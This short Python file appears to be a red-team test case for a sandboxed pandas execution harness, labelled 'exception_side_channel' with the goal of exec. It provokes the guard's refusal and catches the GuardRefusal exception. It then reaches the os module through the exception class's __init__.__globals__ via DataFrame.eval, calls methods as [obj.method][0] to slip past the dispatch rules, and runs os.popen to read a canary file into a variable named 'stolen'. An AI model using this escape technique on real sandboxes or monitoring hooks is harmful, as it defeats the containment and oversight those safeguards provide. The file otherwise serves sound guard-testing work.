# class: exception_side_channel
# technique: the GuardRefusal the audit hook raises is caught; type(err) is a harness class whose __init__.__globals__ (with os) is read by DataFrame.eval through an agg ** mapping; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import numpy as np
import pandas as pd

probe = pd.DataFrame({"a": [1]})
caught = None
try:
    [probe.agg][0](**{"func": "to_string", "buf": "/etc/anyplot-escape-probe"})   # an open() the guard refuses
except Exception as exc:
    caught = exc
if caught is None:
    raise RuntimeError("nothing was refused")
u = "_" * 2
g = [probe.agg][0](**{"func": "eval", "expr": "@e." + u + "class" + u + "." + u + "init" + u + "." + u + "globals" + u,
                 "local_dict": {"e": caught}})
stolen = [probe.agg][0](**{"func": "eval", "expr": "@o.popen(@cmd).read()",
                      "local_dict": {"o": g["os"], "cmd": "cat {{CANARY_FILE}}"}})
df = pd.DataFrame({"stolen": [stolen]})
